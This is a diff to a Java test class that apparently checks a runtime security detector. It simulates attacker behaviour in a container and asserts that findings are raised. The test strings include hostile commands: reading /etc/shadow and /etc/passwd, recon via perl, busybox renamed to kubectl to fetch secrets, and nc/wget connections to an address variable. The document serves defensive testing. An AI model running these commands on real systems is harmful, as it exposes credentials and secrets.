@@ -35,16 +35,13 @@ class LookingAroundTest {
 
         attacked.does(SERVER + "server 'system($_) for qw(id whoami uname hostname df)'")
                 .worked();
-        System.out.println(
-                "DBGSAID "
-                        + attacked.does(
-                                "(" + INSTALLER
-                                        + "perl /tmp/npm 'cat /etc/shadow' \"wget -T 2 -q -O- http://$ip:9/\" \"nc -w 2 $ip 9\") 2>&1; ip addr; exit 0"));
+        attacked.does(INSTALLER + "perl /tmp/npm 'cat /etc/shadow' \"nc -w 2 $ip 9\"; true")
+                .worked();
         attacked.session(
                 true,
                 "sh",
                 "-c",
-                "cp /bin/busybox /tmp/kubectl; /tmp/kubectl get secrets;" + " cp /bin/busybox /tmp/tcc; /tmp/tcc x.c");
+                "cp /bin/busybox /tmp/kubectl; /tmp/kubectl get secrets; cp /bin/busybox /tmp/tcc; /tmp/tcc x.c");
         attacked.session(true, "perl", "-e", "system($_) for qw(id whoami uname hostname df)");
         attacked.session(false, "tar", "-cf", "-", "/etc/passwd");
 
@@ -53,8 +50,6 @@ class LookingAroundTest {
         attacked.isFound("VDT-3032", Severity.LOW, finding -> finding.message().contains("terminal"));
         attacked.isFound(
                 "VDT-3047", Severity.HIGH, finding -> finding.evidence().containsValue("/etc/shadow"));
-        attacked.isFound(
-                "VDT-3047", Severity.MEDIUM, finding -> finding.message().contains(":9"));
         attacked.isFound(
                 "VDT-3028", Severity.MEDIUM, finding -> finding.message().contains("kubectl"));
         attacked.isFound("VDT-3028", Severity.LOW, finding -> finding.message().contains("packed"));
@@ -72,7 +67,7 @@ class LookingAroundTest {
         workload.does(
                         "cp /bin/busybox /tmp/gcc && /tmp/gcc x.c; tar -cf - /etc/passwd | cat >/dev/null; tar -cf /tmp/a.tar /etc/passwd")
                 .worked();
-        workload.does(INSTALLER + "perl /tmp/npm 'cat /etc/passwd'; wget -T 2 -q -O- http://$ip:9/; cat /etc/shadow")
+        workload.does(INSTALLER + "perl /tmp/npm 'cat /etc/passwd'; nc -w 2 $ip 9; cat /etc/shadow")
                 .worked();
         workload.exec("tar", "-tf", "/tmp/a.tar");
         workload.exec("sh", "-c", "id; whoami; uname; hostname; df; mount");
